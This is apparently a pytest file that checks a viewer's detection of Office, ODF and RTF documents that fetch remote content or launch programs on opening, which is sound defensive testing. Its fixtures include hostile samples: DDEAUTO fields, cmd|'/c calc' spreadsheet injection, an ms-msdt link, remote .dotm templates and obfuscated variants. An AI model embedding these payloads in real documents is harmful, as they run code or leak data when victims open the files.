# SPDX-License-Identifier: EUPL-1.2
"""A document that fetches something from another computer when it is opened, or starts a program, is not opened in
another program: remote templates, linked pictures, objects and sections, DDE. Hyperlinks are no reason."""

import time
from collections.abc import Mapping

import pytest

from app.viewing import package_links
from app.viewing.errors import OpensHarm, OpensMacros, OpensRemote, OpensUnchecked
from app.viewing.package import look_inside
from app.viewing.remote import field_fetches, formula_fetches, is_remote
from app.viewing.shown_file import check_opening
from tests.app.viewing.test_opening import TYPES, package

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
LISTS = "http://schemas.openxmlformats.org/package/2006/relationships"
SPACES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml"'
    ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:o="urn:schemas-microsoft-com:office:office"'
    f' xmlns:r="{OFFICE}"'
)
_OF = {"office": "office", "text": "text", "meta": "meta", "draw": "drawing", "table": "table"}
ODF = 'xmlns:xlink="http://www.w3.org/1999/xlink" ' + " ".join(
    f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for short, name in {**_OF, "presentation": "presentation"}.items()
)
AWAY = "https://exempel.se/mall åäö.dotm"
SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def relation(kind: str, target: str, *, mode: str = ' TargetMode="External"', space: str = OFFICE) -> str:
    return f'<Relationship Id="rId1" Type="{space}/{kind}" Target="{target}"{mode}/>'


def document(
    body: str = "", relations: str = "", *, of: str = "document", more: Mapping[str, str] | None = None
) -> bytes:
    """A document of Word with `body`, in which the part `of` has these relationships."""
    files = {
        TYPES: "<Types/>",
        "word/document.xml": f"<w:document {SPACES}><w:body>{body}</w:body></w:document>",
        "word/settings.xml": f'<w:settings {SPACES}><w:attachedTemplate r:id="rId1"/></w:settings>',
        f"word/_rels/{of}.xml.rels": f'<Relationships xmlns="{LISTS}">{relations}</Relationships>',
        **(more or {}),
    }
    return package({name: text.encode() for name, text in files.items()})


def book(name: str, text: str) -> bytes:
    return package({TYPES: b"<Types/>", f"xl/{name}": text.encode()})


def flat_book(cell: str) -> bytes:
    """A book of Excel in one file of XML."""
    space = "urn:schemas-microsoft-com:office:spreadsheet"
    return f'<?xml version="1.0"?><Workbook xmlns="{space}" xmlns:ss="{space}">{cell}</Workbook>'.encode()


def open_document(body: str, part: str = "content.xml") -> bytes:
    kind = b"application/vnd.oasis.opendocument.text"
    return package(
        {"mimetype": kind, part: f"<office:document-content {ODF}>{body}</office:document-content>".encode()}
    )


def code(*texts: str) -> str:
    """A field of Word whose code is in several runs."""
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


REMOTE = {
    "template": document(relations=relation("attachedTemplate", AWAY), of="settings"),
    "template on a share": document(relations=relation("attachedTemplate", r"\\server\mallar\a.dotm"), of="settings"),
    "template by file": document(relations=relation("attachedTemplate", "file:///%5C%5Cs%5Cm.dotm"), of="settings"),
    "template in strict": document(relations=relation("attachedTemplate", AWAY, space=STRICT), of="settings"),
    "without a mode": document(relations=relation("attachedTemplate", AWAY, mode=""), of="settings"),
    "picture": document(relations=relation("image", "http://192.0.2.1/a.png")),
    "object": document(relations=relation("oleObject", "mhtml:http://exempel.se/a!x-usc:a")),
    "unknown scheme": document(relations=relation("oleObject", "ms-msdt:/id PCWDiagnostic")),
    "frame": document(relations=relation("frame", AWAY), of="webSettings"),
    "part document": document(relations=relation("subDocument", AWAY)),
    "hyperlink as picture": document('<a:blip r:link="rId1"/>', relation("hyperlink", AWAY)),
    "hover": document('<a:hlinkHover r:id="rId1"/>', relation("hyperlink", r"\\server\a")),
    "vml": document('<v:imagedata src="http://exempel.se/a.png"/>'),
    "vml alternative": document('<v:fill o:althref="//server/a.png"/>'),
    "dde": document(code("DDEAUTO c:\\\\x.exe")),
    "dde in pieces": document(code("DD", "EA", "UTO c:\\\\x.exe")),
    "dde in letters by number": document(code("&#68;DE x y")),
    "dde simple": document('<w:fldSimple w:instr=" dde a b"/>'),
    "dde by a field": document(
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{code("QUOTE 68 68 69")}<w:r><w:instrText> x</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    "included picture": document(code(' INCLUDEPICTURE "http://exempel.se/å.png" \\d')),
    "included picture and a switch": document(code('INCLUDEPICTURE\\d "http://exempel.se/å.png"')),
    "included from a share": document(code("INCLUDETEXT\\\\server\\å.docx")),
    "included by a field": document(
        f'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT </w:instrText></w:r>{code("REF x")}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    "another name": document(more={"word/övrigt.dat": f"<w:a {SPACES}>{code('DDE x y')}</w:a>"}),
    "utf-16": package({TYPES: b"<Types/>", "a.xml": f"<w:a {SPACES}>{code('DDE x')}</w:a>".encode("utf-16")}),
    "svg in a document": document(more={"word/media/a.svg": f'<svg {SVG}><image href="http://exempel.se/a.png"/></svg>'}),
    "svg style": document(more={"word/media/a.svg": f"<svg {SVG}><style>a {{b: url('//server/c')}}</style></svg>"}),
    "excel dde": book("externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
    "excel source": book("connections.xml", '<connections><connection><webPr url="http://exempel.se"/></connection></connections>'),
    "excel refreshes": book("connections.xml", '<connections><connection refreshOnLoad="1"/></connections>'),
    "excel query refreshes": book("queryTables/q.xml", '<queryTable connectionId="1" refreshOnLoad="1"/>'),
    "excel refreshes by the minute": book("connections.xml", '<connections><connection interval="10"/></connections>'),
    "excel pivot of a source": book(
        "pivotCache/a.xml",
        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external"/></pivotCacheDefinition>',
    ),
    "excel in one file": flat_book("""<Cell ss:Formula="=cmd|'/c calc'!A0"/>"""),
    "excel in one file, a query": flat_book("<QueryTable><Name>å</Name></QueryTable>"),
    "excel behind a quote": book("sheet1.xml", "<a><f>'å\"'!A1&amp;WEBSERVICE(B1)&amp;'å\"'!A1</f></a>"),
    "excel behind a column": book("sheet1.xml", "<a><f>T[å\"]&amp;WEBSERVICE(B1)&amp;T[å\"]</f></a>"),
    "excel behind an escape": book("sheet1.xml", "<a><f>T[']å\"]&amp;RTD(B1)&amp;T[']å\"]</f></a>"),
    "excel function": book("worksheets/sheet1.xml", "<worksheet><f>_xlfn.WEBSERVICE(A1)</f></worksheet>"),
    "excel cell": book("worksheets/sheet1.xml", "<worksheet><f>cmd|'/c calc'!A0</f></worksheet>"),
    "odf picture": open_document('<draw:image xlink:href="http://exempel.se/a.png"/>'),
    "odf section": open_document('<text:section-source xlink:href="//server/å.odt"/>'),
    "odf object": open_document('<draw:object-ole xlink:href="file://server/a.ods"/>', "styles.xml"),
    "odf template": open_document('<meta:template xlink:href="https://exempel.se/a.ott"/>', "meta.xml"),
    "odf dde": open_document('<office:dde-source office:dde-application="soffice"/>'),
    "odf function": open_document('<table:table-cell table:formula="of:=WEBSERVICE([.A1])"/>'),
    "odf sheet": open_document("<table:table-cell table:formula=\"of:=['http://exempel.se/a.ods'#$Blad1.A1]\"/>"),
    "odf sheet behind a quote": open_document(
        """<table:table-cell table:formula="of:=[$'å&quot;'.A1]+['file://server/a'#$'å&quot;'.A1]"/>"""
    ),
    "odf form": open_document('<form:button xmlns:form="urn:a" form:image-data="http://exempel.se/å.png"/>'),
    "odf xforms": open_document('<x:instance xmlns:x="http://www.w3.org/2002/xforms" src="//server/å.xml"/>'),
    "odf in an object": open_document('<draw:image xlink:href="ftp://exempel.se/a"/>', "Object 1/content.xml"),
    "flat odf": f'<office:document {ODF}><draw:image xlink:href="http://exempel.se/a"/></office:document>'.encode(),
    "rtf template": b"{\\rtf1{\\*\\template http://exempel.se/a.dotm}}",
    "rtf template by number": b"{\\rt{\\*\\template \\u104?\\u116?\\u116?\\u112?\\'3a//exempel.se/a}}",
    "rtf share": b"{\\rtf1{\\*\\template \\\\\\\\server\\\\a.dotm}}",
    "rtf field": b'{\\rtf1{\\field{\\*\\fldinst {\\b INCLUDEPICTURE} {"http://exempel.se/a.png"} \\\\d}{\\fldrslt a}}}',
    "rtf dde": b"{\\rtf1{\\field{\\*\\fldinst {DD}{EAUTO x y}}}}",
    "rtf behind a long number": b"{\\rtf1{\\bin0000000006 \\bin99{\\*\\template http://exempel.se/a.dotm}}",
    "rtf picture": b"{\\rtf1{\\sp{\\sn pibName}{\\sv http://exempel.se/a.png}}}",
}  # fmt: skip


@pytest.mark.parametrize("data", REMOTE.values(), ids=REMOTE)
def test_attack_what_is_fetched_when_a_document_is_opened_is_found(data: bytes) -> None:
    with pytest.raises(OpensRemote):
        look_inside(data)


@pytest.mark.parametrize("name", ["template", "flat odf", "rtf template"])
async def test_attack_a_document_that_fetches_is_not_opened_in_another_program(name: str) -> None:
    with pytest.raises(OpensRemote):
        await check_opening("Beslut åäö 🙂.docx", REMOTE[name])


HYPERLINK = '<w:hyperlink r:id="rId1"><w:r/></w:hyperlink><a:hlinkClick r:id="rId1"/>'
NESTED_RESULT = (
    f'<w:fldChar w:fldCharType="begin"/><w:instrText>TOC \\o</w:instrText><w:fldChar w:fldCharType="separate"/>'
    f'{code("PAGEREF _Toc1")}{code("HYPERLINK http://exempel.se")}<w:fldChar w:fldCharType="end"/>'
)


@pytest.mark.parametrize(
    "data",
    [
        document(HYPERLINK, relation("hyperlink", AWAY)),
        document(HYPERLINK, relation("hyperlink", "mailto:registrator@exempel.se", space=STRICT)),
        document(relations=relation("attachedTemplate", "file:///C:\\Mallar\\Brev%20å.dotx"), of="settings"),
        document(relations=relation("attachedTemplate", "Normal.dotm"), of="settings"),
        document(code(' HYPERLINK "http://exempel.se" \\h') + code("PAGE") + NESTED_RESULT),
        document(code('INCLUDEPICTURE "cid:bild1" \\* MERGEFORMAT') + code("IF ", "1 = 1", '"DDE"')),
        document(more={"word/media/a.svg": f'<svg {SVG}><a href="http://exempel.se"/><use href="#b"/></svg>'}),
        book("worksheets/sheet1.xml", "<a><f>HYPERLINK(\"http://exempel.se\",\"Ö's: sida's\")</f></a>"),
        book("pivotCache/pivotCacheDefinition1.xml", '<pivotCacheDefinition refreshOnLoad="1"/>'),
        book("pivotCache/a.xml", '<pivotCacheDefinition><cacheSource type="external"/></pivotCacheDefinition>'),
        book("connections.xml", '<connections><connection interval="0" refreshOnLoad="0"/></connections>'),
        flat_book('<Cell ss:Formula="=SUM(A1:A9)" ss:HRef="http://exempel.se"/>'),
        open_document('<text:a xlink:href="http://exempel.se">å 🙂</text:a><draw:image xlink:href="Pictures/a.png"/>'),
        open_document('<meta:template xlink:href="../mallar/a.ott"/>', "meta.xml"),
        f'<office:document {ODF}><text:a xlink:href="http://exempel.se"/></office:document>'.encode(),
        b'<faktura xmlns:x="http://www.w3.org/1999/xlink"><mall x:href="http://exempel.se"/></faktura>',
        b"<anteckning utan slut & mer",
        b'{\\rtf1{\\*\\template C:\\\\Mallar\\\\Brev.dotx}{\\field{\\*\\fldinst HYPERLINK "http://exempel.se"}}}',
        b"{\\rtf1{\\field{\\*\\fldinst TOC}{\\fldrslt {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}}}}",
        b"{\\rtf1{\\sp{\\sn pihlShape}{\\sv http://exempel.se}}\\bin4 {{{{ x}",
    ],
)  # fmt: skip
def test_hyperlinks_and_what_is_here_are_no_reason(data: bytes) -> None:
    look_inside(data)


def test_attack_a_click_or_hover_that_starts_a_program_is_found() -> None:
    hover = '<a:hlinkClick r:id="" action="ppaction://program"/>'
    with pytest.raises(OpensMacros):
        look_inside(document(hover))
    with pytest.raises(OpensMacros):
        look_inside(open_document('<presentation:event-listener presentation:action="execute" xlink:href="a"/>'))


@pytest.mark.parametrize(
    "data",
    [
        document(relations=relation("aFChunk", "a.html", mode="")),
        document('<w:altChunk r:id="rId1"/>', relation("image", "a.xhtml", mode="")),
        document("<w:p>"),
        document(more={"word/a.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}),
        document(more={"word/a.xml": "<a b='" + "x" * (package_links.MAX_TOKEN_BYTES + (2 << 20)) + "'/>"}),
        package({TYPES: b"<Types/>", "a.xml": '<?xml version="1.0"?><a/>'.encode("cp037")}),
        document(code("PAGE") * 2 + '<w:fldChar w:fldCharType="begin"/>' * 20_000),
        f"<office:document {ODF}><draw:image".encode(),
        b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}",
        b"{\\rtf1" + b"{" * 20_000,
        b"{\\rtf1{\\bin4294967296 }{\\*\\template http://exempel.se/a.dotm}}",
        b"{\\rtf1{\\bin99 }{\\*\\template http://exempel.se/a.dotm}}",
    ],
    ids=["merged", "as a picture", "torn", "entities", "long tag", "ebcdic", "fields", "flat", "object", "groups",
         "long number", "beyond the end"],
)  # fmt: skip
def test_bad_input_what_cannot_be_looked_through_is_not_opened(data: bytes) -> None:
    started = time.process_time()
    with pytest.raises(OpensUnchecked):
        look_inside(data)
    assert time.process_time() - started < 10


def test_attack_a_document_that_unpacks_to_much_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("app.viewing.package.MAX_XML_BYTES", 100_000)
    look_inside(document(more={"a.xml": "<a>" + " " * 50_000 + "</a>", "bild.bin": "x" * 200_000}))
    with pytest.raises(OpensUnchecked):
        look_inside(document(more={"a.xml": "<a>" + " " * 50_000 + "</a>", "b.xml": "<a>" + " " * 60_000 + "</a>"}))


def test_bad_input_a_document_cut_anywhere_is_refused_and_ends_no_process() -> None:
    for whole in (REMOTE["template"], REMOTE["odf picture"], REMOTE["rtf field"]):
        for end in range(0, len(whole), 7):
            try:
                look_inside(whole[:end])
            except OpensHarm:
                continue


@pytest.mark.parametrize(
    "address",
    ["http://a.se", "HTTPS://a.se", " h\ttt\np://a.se", "//server/a", r"\\server\a", "/\\server/a", "file://server/a",
     "file:////server/a", r"file:///\\server\a", "file:///%5c%5cserver/a", "file:///%255c%255cserver", "ftp://a",
     r"\\?\UNC\server\a", r"\??\UNC\server\a", "smb://a", "script:a", "file://localhost//server/a"],
)  # fmt: skip
def test_attack_a_remote_address_in_any_spelling(address: str) -> None:
    assert is_remote(address)


@pytest.mark.parametrize(
    "address",
    ["", "#a", "a.png", "../å 🙂.odt", "C:\\a", "c:/a", "file:///C:/a", "file:///home/a", "file://localhost/a",
     "file:a", "/home/a", "cid:a", "data:image/png;base64,AA", "file://c:/a"],
)  # fmt: skip
def test_an_address_on_this_computer(address: str) -> None:
    assert not is_remote(address)


def test_only_fields_and_functions_that_fetch_count() -> None:
    assert field_fetches("  ddeauto a b")
    assert not field_fetches("")
    assert not field_fetches("MERGEFIELD DDE")
    assert not field_fetches('DATE\\@"d MMMM"')
    assert not field_fetches('INCLUDEPICTURE\\d "bild å.png"')
    assert field_fetches(r'LINK Excel.Sheet.12 "\\\\server\\a.xlsx" Blad1!R1C1')
    assert not field_fetches(r'LINK Excel.Sheet.12 "C:\\a.xlsx" Blad1!R1C1 \a \p')
    assert formula_fetches("of:=DDE('a';'b';'c')")
    assert not formula_fetches('of:=[$\'Blad å\'.A1]&"http://exempel.se"&[.B1:.B9]&"rtd 🙂"')
    assert not formula_fetches("'Blad å'!AB1:AC2&\"it's rtd(x)\"&'Blad å'!A1")
    assert not formula_fetches('SUM(A1:A9)&"DDE(x) cmd|\'"')
